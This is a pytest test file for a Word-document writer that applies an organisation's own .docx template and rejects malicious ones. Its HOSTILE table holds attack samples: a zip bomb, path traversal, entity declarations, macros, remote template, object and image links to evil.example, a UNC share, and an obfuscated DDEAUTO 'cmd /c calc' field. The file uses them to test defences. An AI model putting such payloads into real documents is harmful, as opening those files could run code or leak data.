"""A trust's own Word file: its looks are kept, what it lacks is added, and one that means harm is named."""

from __future__ import annotations

import io
import re
import zipfile
from functools import partial
from xml.etree import ElementTree

import docx as python_docx
import pytest
from docx.document import Document as WordDocument
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm, Pt, RGBColor
from hypothesis import given
from hypothesis import strategies as st

from generator.documents.document import Heading, Table, paragraph, text
from generator.documents.plan import plan_document
from generator.model.library import Library
from generator.planning.playbook import plan
from generator.writers import docx
from generator.writers.word.file import MAIN
from tests.writers import sample
from tests.writers.sample import document, parts
from tests.writers.word_rules import problems
from tests.writers.word_sample import THEME, everything, listing

BASE = THEME.files[docx.BASE]
changed = partial(sample.changed, raw=BASE)
with_text = partial(sample.with_text, raw=BASE)


def trust() -> WordDocument:
    """A template as a trust may have it: own fonts, colours, page, header, and a page of advice to delete."""
    word = python_docx.Document()
    word.styles["Normal"].font.name = "Georgia"
    word.styles["Heading 1"].font.color.rgb = RGBColor(0xC0, 0x39, 0x2B)
    word.styles["Heading 1"].font.size = Pt(31)
    callout = word.styles.add_style("Callout", WD_STYLE_TYPE.PARAGRAPH)
    callout.font.name = "Courier New"
    section = word.sections[0]
    section.page_width, section.page_height, section.left_margin, section.right_margin = Cm(21), Cm(29.7), Cm(4), Cm(3)
    section.header.paragraphs[0].text = "Westbrook NHS Trust"
    section.footer.paragraphs[0].text = "Official"
    word.add_heading("How to use this template", 1)
    word.add_paragraph("Delete this text.")
    return word


def saved(word: WordDocument) -> bytes:
    buffer = io.BytesIO()
    word.save(buffer)
    return buffer.getvalue()


def written(template: bytes, *blocks: object) -> WordDocument:
    return python_docx.Document(io.BytesIO(docx.write(document(*blocks), THEME, template)))  # type: ignore[arg-type]


def with_tie(kind: str, target: str, mode: str = "External") -> bytes:
    tie = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return with_text("word/_rels/document.xml.rels", "</Relationships>", tie)


# Its looks are kept.


def test_a_template_keeps_its_looks_and_loses_its_text() -> None:
    word = written(saved(trust()), *everything())

    assert word.styles["Normal"].font.name == "Georgia"
    assert str(word.styles["Heading 1"].font.color.rgb) == "C0392B"
    assert word.styles["Callout"].font.name == "Courier New"
    section = word.sections[0]
    assert section.header.paragraphs[0].text == "Westbrook NHS Trust"
    assert section.footer.paragraphs[0].text == "Official"
    assert (round(section.page_width.cm), round(section.left_margin.cm)) == (21, 4)
    assert "Delete this text." not in [item.text for item in word.paragraphs]


def test_a_template_lacks_nothing() -> None:
    raw = docx.write(document(*everything()), THEME, saved(trust()))
    names = {style.name for style in python_docx.Document(io.BytesIO(raw)).styles}

    assert problems(raw) == []
    assert {"Lead", "Evidence", "Callout Title", "Callout", "Code", "Small", "toc 1", "TOC Heading"} <= names


def test_the_colour_of_the_document_does_not_touch_a_template() -> None:
    raw = docx.write(document(*everything(), colour="#ab12cd"), THEME, saved(trust()))

    assert all(b"AB12CD" not in part.upper() for part in parts(raw).values())


def test_tables_are_as_wide_as_the_text_of_the_template() -> None:
    (table,) = written(saved(trust()), Table((text("a"),) * 3, ())).tables

    assert sum(column.width for column in table.columns) == pytest.approx(Cm(14), rel=0.001)


def test_its_numbered_lists_keep_their_look_and_still_start_again() -> None:
    template = trust()
    style = template.styles["List Number"]
    before = style.element.pPr.numPr.numId.val
    word = written(saved(template), listing("a", numbered=True), listing("b", numbered=True))
    numbering = word.part.numbering_part.element
    looks = {item.numId: item.abstractNumId.val for item in numbering.iter(qn("w:num"))}
    used = [int(item.get(qn("w:val"))) for item in word.element.body.iter(qn("w:numId"))]

    assert len(set(used)) == 2
    assert {looks[number] for number in used} == {looks[before]}


def test_a_template_without_styles_lists_or_properties_still_works() -> None:
    def strip(files: dict[str, bytes]) -> None:
        for name in ("word/styles.xml", "word/numbering.xml", "word/settings.xml", "word/theme/theme1.xml"):
            del files[name]
        del files["docProps/core.xml"]
        for name in ("word/_rels/document.xml.rels", "_rels/.rels"):
            gone = rb'<Relationship [^>]*Target="(styles|numbering|settings|theme/theme1|docProps/core)\.xml"/>'
            files[name] = re.sub(gone, b"", files[name])
        files["[Content_Types].xml"] = re.sub(
            rb'<Override PartName="/[^"]*(styles|numbering|settings|theme1|core)\.xml"[^>]*/>',
            b"",
            files["[Content_Types].xml"],
        )

    raw = docx.write(document(*everything()), THEME, changed(strip))
    word = python_docx.Document(io.BytesIO(raw))

    assert problems(raw) == []
    assert word.core_properties.title == "Playbook"
    assert word.styles["Heading 1"].font.size == python_docx.Document(io.BytesIO(BASE)).styles["Heading 1"].font.size


def test_a_word_template_becomes_a_document() -> None:
    raw = with_text("[Content_Types].xml", "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml")

    assert docx.template_fault(raw) is None
    assert problems(docx.write(document(), THEME, raw)) == []
    assert b"template.main+xml" not in parts(docx.write(document(), THEME, raw))["[Content_Types].xml"]


def test_the_header_of_an_earlier_section_stays_valid() -> None:
    template = trust()
    template.add_section()
    assert template.sections[1].header.is_linked_to_previous
    word = written(saved(template), paragraph("word"))

    assert len(word.sections) == 1
    assert word.sections[0].header.paragraphs[0].text == "Westbrook NHS Trust"


def test_headers_and_footers_of_first_even_and_other_pages_survive() -> None:
    template = trust()
    section = template.sections[0]
    section.different_first_page_header_footer = template.settings.odd_and_even_pages_header_footer = True
    section.first_page_header.paragraphs[0].text = "Crest"
    section.first_page_footer.paragraphs[0].text = "Registered office"
    section.even_page_header.paragraphs[0].text = "Even"
    word = written(saved(template), paragraph("word"))
    (section,) = word.sections

    lines = (section.header, section.footer, section.first_page_header, section.first_page_footer)
    assert [line.paragraphs[0].text for line in (*lines, section.even_page_header)] == [
        *("Westbrook NHS Trust", "Official", "Crest", "Registered office", "Even")
    ]
    assert section.different_first_page_header_footer
    assert word.settings.odd_and_even_pages_header_footer


@pytest.mark.parametrize("own_first_page", [False, True])
def test_the_first_page_keeps_the_header_of_the_first_section(own_first_page: bool) -> None:
    template = trust()
    template.add_section()
    cover, pages = template.sections
    pages.header.is_linked_to_previous = False
    pages.header.paragraphs[0].text = "Later pages"
    if own_first_page:
        cover.different_first_page_header_footer = True
        cover.first_page_header.paragraphs[0].text = "Crest"
        pages.different_first_page_header_footer = False
    raw = docx.write(document(paragraph("word")), THEME, saved(template))
    (section,) = python_docx.Document(io.BytesIO(raw)).sections

    assert problems(raw) == []
    assert section.different_first_page_header_footer
    assert section.first_page_header.paragraphs[0].text == ("Crest" if own_first_page else "Westbrook NHS Trust")
    assert section.header.paragraphs[0].text == "Later pages"


def test_a_template_can_place_the_title_in_its_header() -> None:
    template = trust()
    line = template.sections[0].header.paragraphs[0]
    control = (
        f'<w:sdt {nsdecls("w")}><w:sdtPr><w:tag w:val="title"/></w:sdtPr><w:sdtContent><w:r><w:rPr><w:b/></w:rPr>'
        "<w:t>Click here</w:t></w:r></w:sdtContent></w:sdt>"
    )
    line._p.append(parse_xml(control))
    raw = docx.write(document(title="<Own> & good"), THEME, saved(template))
    (line,) = python_docx.Document(io.BytesIO(raw)).sections[0].header.paragraphs

    assert line.text == "Westbrook NHS Trust<Own> & good"
    assert line.runs[-1].bold


def test_properties_that_a_template_sets_for_every_document_stay() -> None:
    template = trust()
    template.core_properties.category, template.core_properties.author = "Official", "Somebody"
    properties = written(saved(template)).core_properties

    assert (properties.category, properties.author) == ("Official", "A trust")


def test_word_asks_nothing_on_opening_a_file_from_a_template() -> None:
    raw = with_text("word/settings.xml", "<w:defaultTabStop", '<w:updateFields w:val="true"/><w:defaultTabStop')

    assert b"updateFields" not in parts(docx.write(document(), THEME, raw))["word/settings.xml"]


def test_a_style_of_another_kind_with_the_same_name_stays_unchanged() -> None:
    template = trust()
    template.styles.add_style("Lead", WD_STYLE_TYPE.CHARACTER)
    raw = docx.write(document(paragraph("word", "lead")), THEME, saved(template))
    word = python_docx.Document(io.BytesIO(raw))

    assert problems(raw) == []
    assert "Lead (playbook)" in [item.style.name for item in word.paragraphs]
    assert word.styles["Lead"].type is WD_STYLE_TYPE.CHARACTER


def test_ids_of_the_header_are_not_used_again() -> None:
    template = trust()
    line = template.sections[0].header.paragraphs[0]
    for number in (1, 2):
        line._p.append(parse_xml(f'<w:bookmarkStart {nsdecls("w")} w:id="{number}" w:name="in_header_{number}"/>'))
        line._p.append(parse_xml(f'<w:bookmarkEnd {nsdecls("w")} w:id="{number}"/>'))
    word = written(saved(template), Heading(1, "One", "one"), Heading(1, "Two", "two"))

    assert [item.get(qn("w:id")) for item in word.element.body.iter(qn("w:bookmarkStart"))] == ["3", "4"]


def test_a_whole_plan_in_a_trusts_look(library: Library) -> None:
    raw = docx.write(plan_document(plan(library, "imperial")), THEME, saved(trust()))

    assert problems(raw) == []


# What means harm, or cannot be used, is named.


def test_good_files_have_no_fault() -> None:
    assert docx.template_fault(BASE) is None
    assert docx.template_fault(saved(trust())) is None
    assert docx.template_fault(docx.write(document(*everything()), THEME)) is None


def test_a_written_file_can_be_the_next_template() -> None:
    first = docx.write(document(*everything()), THEME)

    assert problems(docx.write(document(*everything()), THEME, first)) == []


DOCUMENT = "word/document.xml"
INSTRUCTION = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p><w:sectPr>"
HOSTILE = {
    "empty": (b"", "is not a complete Word file"),
    "no zip": (b"PK\x03\x04 but no more", "is not a complete Word file"),
    "cut off": (BASE[: len(BASE) // 2], "is not a complete Word file"),
    "old or with a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "has a password, or is an old .doc"),
    "too large": (bytes(20_000_001), "has 20,000,001 bytes; the limit is 20,000,000"),
    "too many parts": (
        changed(lambda files: files.update({f"word/x{number}.bin": b"" for number in range(2_000)})),
        "files; the limit is 2,000",
    ),
    "unpacks to much": (
        changed(lambda files: files.update({"word/x.bin": bytes(100_000_001)})),
        "the limit is 100,000,000",
    ),
    "a zip bomb": (
        changed(lambda files: files.update({"word/x.bin": bytes(30_000_000)})),
        "more than 200 times its size",
    ),
    "no document": (changed(lambda files: files.pop(DOCUMENT)), "has no word/document.xml"),
    "no types": (changed(lambda files: files.pop("[Content_Types].xml")), "has no [Content_Types].xml"),
    "a way out": (changed(lambda files: files.update({"word/../../x.xml": b"<x/>"})), "leads out of the zip"),
    "an absolute way": (changed(lambda files: files.update({"/etc/x.xml": b"<x/>"})), "leads out of the zip"),
    "a Windows way": (changed(lambda files: files.update({"word\\..\\x.xml": b"<x/>"})), "leads out of the zip"),
    "a part twice": (changed(lambda files: files.update({"WORD/Document.xml": b"<x/>"})), "twice"),
    "a document type": (with_text(DOCUMENT, "<w:document", "<!DOCTYPE x []><w:document"), "declares a document type"),
    "an entity in any part": (
        changed(lambda files: files.update({"customXml/item1.xml": b'<!DocType x [<!ENTITY y "z">]><x/>'})),
        "declares a document type",
    ),
    "an entity under another name": (
        changed(lambda files: files.update({"word/x.dat": b'\xef\xbb\xbf <!DOCTYPE x [<!ENTITY y "z">]><x/>'})),
        "declares a document type",
    ),
    "another encoding": (
        changed(lambda files: files.update({DOCUMENT: files[DOCUMENT].decode().encode("utf-16")})),
        "not in UTF-8",
    ),
    "an encoding that lies": (with_text(DOCUMENT, "UTF-8", "utf-7"), "not in UTF-8"),
    "not well-formed": (with_text(DOCUMENT, "</w:body>", ""), "not well-formed"),
    "a namespace that no parser takes": (
        with_text("word/_rels/document.xml.rels", 'xmlns="http', 'xmlns="}http'),
        "not well-formed",
    ),
    "macros": (changed(lambda files: files.update({"word/vbaProject.bin": b"x"})), "holds macros"),
    "a macro type": (
        with_text(
            "[Content_Types].xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "holds macros",
    ),
    "a template elsewhere": (with_tie("attachedTemplate", "http://evil.example/x.dotm"), "attachedTemplate"),
    "an object elsewhere": (with_tie("oleObject", "http://evil.example/x"), "oleObject"),
    "a picture elsewhere": (with_tie("image", "http://evil.example/x.png"), "fetches something from outside (image"),
    "a frame elsewhere": (with_tie("frame", "\\\\evil\\share"), "fetches something from outside (frame"),
    "an embedded object": (with_tie("oleObject", "embeddings/x.bin", "Internal"), "holds an embedded object"),
    "a control": (with_tie("control", "control1.bin", "Internal"), "holds an active control"),
    "another file inside": (with_tie("aFChunk", "x.html", "Internal"), "holds a piece of another file"),
    "a field that runs": (
        with_text(DOCUMENT, "<w:sectPr>", INSTRUCTION.format('DD</w:instrText><w:instrText>E&#65;UTO cmd "/c calc"')),
        "holds a field that fetches from outside (DDEAUTO",
    ),
    "a field that fetches": (
        with_text("word/header1.xml", "</w:hdr>", '<w:p><w:fldSimple w:instr=" IncludePicture x "/></w:p></w:hdr>'),
        "holds a field that fetches from outside (INCLUDEPICTURE",
    ),
    "a field by another name": (
        changed(
            lambda files: files.update(
                {"word/header9.xml": f'<h xmlns="{MAIN}"><fldChar/><instrText>dde x</instrText></h>'.encode()}
            )
        ),
        "holds a field that fetches from outside (DDE",
    ),
    "a prefix without a meaning": (with_text("word/styles.xml", "<w:styles", "<w:styles x:y=''"), "not well-formed"),
    "a signature": (changed(lambda files: files.update({"_xmlsignatures/sig1.xml": b"<x/>"})), "is signed"),
    "strict": (
        with_text(
            DOCUMENT,
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
            "http://purl.oclc.org/ooxml/wordprocessingml/main",
        ),
        "is not written as Word writes",
    ),
    "other prefixes": (
        changed(
            lambda files: files.update(
                {DOCUMENT: files[DOCUMENT].replace(b"w:", b"x:").replace(b"xmlns:w=", b"xmlns:x=")}
            )
        ),
        "is not written as Word writes",
    ),
    "a decoy": (with_text("_rels/.rels", "word/document.xml", "word/header1.xml"), "is not written as Word writes"),
    "a prefix for something else": (
        with_text(DOCUMENT, "<w:document ", '<w:document xmlns:wp="urn:x" '),
        "uses the prefix `wp` for another namespace",
    ),
    "no body": (
        changed(lambda files: files.update({DOCUMENT: re.sub(rb"<w:body>.*</w:body>", b"", files[DOCUMENT])})),
        "body",
    ),
    "lists without numbers": (
        with_text("word/numbering.xml", '<w:num w:numId="1"', '<w:num w:numId="one"'),
        "has lists or styles that cannot be read",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_named_and_refused(name: str) -> None:
    raw, expected = HOSTILE[name]

    assert expected in (docx.template_fault(raw) or "")
    with pytest.raises(ValueError, match="the template "):
        docx.write(document(), THEME, raw)


@given(st.data())
def test_a_damaged_template_is_named_or_works(data: st.DataObject) -> None:
    files = parts(BASE)
    name = data.draw(st.sampled_from([name for name in files if name.endswith((".xml", ".rels"))]))
    place = data.draw(st.integers(0, len(files[name])))
    cut = data.draw(st.sampled_from([0, 1, 7, 40]))
    put = data.draw(
        st.sampled_from([b"", b"<", b'"', b"w:", b"<w:sdt>", b"<w:sectPr/>", b"<w:style/>", b"-1", b"\xff"])
    )
    raw = changed(lambda files: files.update({name: files[name][:place] + put + files[name][place + cut :]}))

    fault = docx.template_fault(raw)
    if fault is None:
        written = parts(docx.write(document(*everything()), THEME, raw))
        for part in ("word/document.xml", "word/styles.xml", "word/numbering.xml", "[Content_Types].xml"):
            ElementTree.fromstring(written[part])


def test_a_password_on_a_part_is_named() -> None:
    raw = bytearray(BASE)
    for place in (match.start() for match in re.finditer(rb"PK\x01\x02", BASE)):
        raw[place + 8] |= 1

    assert docx.template_fault(bytes(raw)) == "has a password; save it without one"


def test_an_unusual_compression_is_named() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", b"<x/>")

    assert "in a way that Word does not" in (docx.template_fault(buffer.getvalue()) or "")


def test_links_of_a_template_may_lead_outside() -> None:
    assert docx.template_fault(with_tie("hyperlink", "https://example.org")) is None


def test_only_our_own_look_has_a_page_for_the_cover() -> None:
    chapters = document(*(Heading(1, title, title.lower()) for title in ("Dates", "People", "Costs")))

    def page_breaks(template: bytes | None) -> int:
        return parts(docx.write(chapters, THEME, template))["word/document.xml"].decode().count('<w:br w:type="page"/>')

    assert (page_breaks(None), page_breaks(saved(trust()))) == (1, 0)
